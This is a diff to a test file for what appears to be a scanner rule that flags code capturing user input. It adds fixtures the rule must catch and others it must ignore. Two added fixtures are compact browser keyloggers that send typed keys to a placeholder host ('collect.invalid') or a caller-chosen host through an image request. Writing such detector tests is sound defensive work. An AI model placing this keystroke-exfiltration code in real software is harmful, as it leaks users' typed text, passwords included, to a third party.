@@ -20,6 +20,20 @@ examine(capturesInput, {
       weight: 'proof',
     },
     {
+      when: 'what was typed goes to a host, and a picture of a file to nobody, by the same picture',
+      files: {
+        'index.js': `let typed = ''; window.addEventListener('keydown', event => { typed += event.key; const image = new Image(); image.src = typed.length > 40 ? 'https://collect.invalid/?' + typed : URL.createObjectURL(new Blob([typed])); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'or to a host that its caller names',
+      files: {
+        'index.js': `const { host } = require('specimen-host'); let typed = ''; window.addEventListener('keydown', event => { typed += event.key; const image = new Image(); image.src = typed.length > 40 ? host + typed : URL.createObjectURL(new Blob([typed])); });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a key leads the page to where its links lead',
       files: { 'index.js': `document.addEventListener('keydown', event => { if (event.key) window.location.href = '/' + event.key; });` },
       weight: 'weak',
@@ -59,6 +73,12 @@ examine(capturesInput, {
     },
   ],
   silent: [
+    {
+      when: 'a page shows the picture that was made while a key was held',
+      files: {
+        'index.js': `exports.start = done => { const held = event => { if (event.shiftKey) { const image = new Image(); image.src = URL.createObjectURL(new Blob([event.target.value])); done(image); } }; window.addEventListener('keydown', held); };`,
+      },
+    },
     { when: 'a prompt reads keys of its terminal', files: { 'index.js': `require('readline').emitKeypressEvents(process.stdin)` } },
     { when: 'a recorder works when called', files: { 'index.js': `exports.shot = () => require('screenshot-desktop')()` } },
     {
